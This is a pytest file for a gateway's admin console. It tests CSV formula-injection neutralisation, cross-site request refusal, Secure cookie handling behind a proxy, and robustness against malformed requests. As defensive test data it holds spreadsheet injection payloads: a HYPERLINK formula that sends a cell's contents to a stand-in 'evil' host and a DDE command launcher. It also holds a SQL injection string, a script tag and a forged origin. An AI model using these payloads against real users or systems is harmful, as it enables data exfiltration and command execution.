"""The console's doors: formula cells in its CSV, cross-site sign-in and sign-out, the session cookie's
Secure flag behind a trusted TLS proxy."""

from __future__ import annotations

import csv
import io
import urllib.request
from datetime import UTC, datetime
from decimal import Decimal

import psycopg
from support.config import write_config

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd", "+cmd|' /C calc'!A0", "-2+3"]


def seed_formulas(pg_url: str, tenant, key_id: int) -> None:
    now = datetime.now(UTC)
    with psycopg.connect(pg_url, autocommit=True) as conn:
        for i, text in enumerate(FORMULAS):
            conn.execute(
                "INSERT INTO ledger (request_id, created_at, tenant_id, key_id, end_user, endpoint, model, tier,"
                " route_reason, role, attempt, cost_usd, input_tokens, output_tokens, status, tags, latency_ms)"
                " VALUES (%s, %s, %s, %s, %s, 'chat.completions', 'sim-small', 'small', 'requested', 'answer', 1,"
                " %s, 10, 5, 200, %s, 12)",
                (f"formula-{tenant.name}-{i}", now, tenant.id, key_id, text, Decimal("0.001"), [text]))


async def test_console_csv_neutralises_formula_cells(app_factory, make_tenant, pg):
    tenant = make_tenant(role="finance")
    seed_formulas(pg.url, tenant, tenant.key_id)
    async with app_factory() as gw:
        login = await gw.client.post("/console/login", data={"key": tenant.key}, follow_redirects=False)
        assert login.status_code == 303
        text = (await gw.client.get("/console/costs.csv")).text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert "'@SUM(1+1)*cmd" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


async def test_cross_site_sign_in_and_sign_out_are_refused(app_factory, make_tenant):
    tenant = make_tenant(role="finance")
    async with app_factory() as gw:
        forged = await gw.client.post("/console/login", data={"key": tenant.key}, follow_redirects=False,
                                      headers={"origin": "http://evil.example"})
        fetched = await gw.client.post("/console/login", data={"key": tenant.key}, follow_redirects=False,
                                       headers={"sec-fetch-site": "cross-site"})
        own = await gw.client.post("/console/login", data={"key": tenant.key}, follow_redirects=False,
                                   headers={"origin": "http://tollway"})
        logout = await gw.client.post("/console/logout", headers={"origin": "http://evil.example"},
                                      follow_redirects=False)
        still_in = await gw.client.get("/console/costs", follow_redirects=False)
    assert forged.status_code == 403
    assert "set-cookie" not in forged.headers
    assert fetched.status_code == 403
    assert own.status_code == 303
    assert logout.status_code == 403
    assert still_in.status_code == 200


def test_the_session_cookie_is_secure_behind_a_trusted_tls_proxy(serve, sim, pg, redis_url, make_tenant,
                                                                  tmp_path):
    config = write_config(tmp_path / "tollway.yaml", sim.url)
    env = {"TOLLWAY_DATABASE_URL": pg.url, "TOLLWAY_REDIS_URL": redis_url, "TOLLWAY_BOOTSTRAP": "false",
           "TOLLWAY_FORWARDED_ALLOW_IPS": "127.0.0.1"}
    gateway = serve("--config", str(config), env=env)
    plain = serve("--config", str(config), env={**env, "TOLLWAY_FORWARDED_ALLOW_IPS": ""})
    tenant = make_tenant(role="finance")

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):  # type: ignore[no-untyped-def]
            return None

    opener = urllib.request.build_opener(NoRedirect)

    def cookie(base: str) -> str:
        req = urllib.request.Request(base.removesuffix("/v1") + "/console/login", data=f"key={tenant.key}".encode(),
                                     headers={"x-forwarded-proto": "https",
                                              "content-type": "application/x-www-form-urlencoded"})
        try:
            opener.open(req, timeout=10)
        except urllib.error.HTTPError as exc:  # the 303 to the costs page
            return str(exc.headers["set-cookie"]).lower()
        raise AssertionError("no redirect after sign-in")

    assert "; secure" in cookie(gateway.url)
    assert "; secure" not in cookie(plain.url)  # an untrusted X-Forwarded-Proto changes nothing


async def test_hostile_console_requests_get_no_500(app_factory, make_tenant):
    finance = make_tenant(role="finance")
    async with app_factory() as gw:
        anonymous = [
            await gw.client.post("/console/login", content=b"key=\xff\xfe%00", follow_redirects=False,
                                 headers={"content-type": "application/x-www-form-urlencoded"}),
            await gw.client.post("/console/login", data={"key": "x" * 100_000}, follow_redirects=False),
            await gw.client.post("/console/login", content=b"\x00" * 64, follow_redirects=False,
                                 headers={"content-type": "multipart/form-data; boundary=zz"}),
            await gw.client.get("/console/costs", headers={"cookie": "tollway_console=" + "\x7f" * 300},
                                follow_redirects=False),
        ]
        await gw.client.post("/console/login", data={"key": finance.key}, follow_redirects=False)
        signed_in = [await gw.client.get(path, params=params, follow_redirects=False) for path, params in [
            ("/console/costs", {"from": "2026-13-45"}), ("/console/costs", {"from": "9999-12-31", "to": "0001-01-01"}),
            ("/console/costs", {"from": "'; DROP TABLE ledger; --"}), ("/console/costs.csv", {"tenant": "\u202e"}),
            ("/console/costs.json", {"stack": "<script>"}), ("/console/budgets", {"tenant": "x" * 5000}),
            ("/console/audit", {"limit": "-1"}), ("/console/keys", {}), ("/console/quality", {}),
        ]]
        revoke = await gw.client.post("/console/keys/99999999999999999999/revoke", data={"csrf": "x"},
                                      follow_redirects=False)
    for resp in [*anonymous, *signed_in, revoke]:
        assert resp.status_code < 500, (resp.request.url, resp.status_code, resp.text[:200])
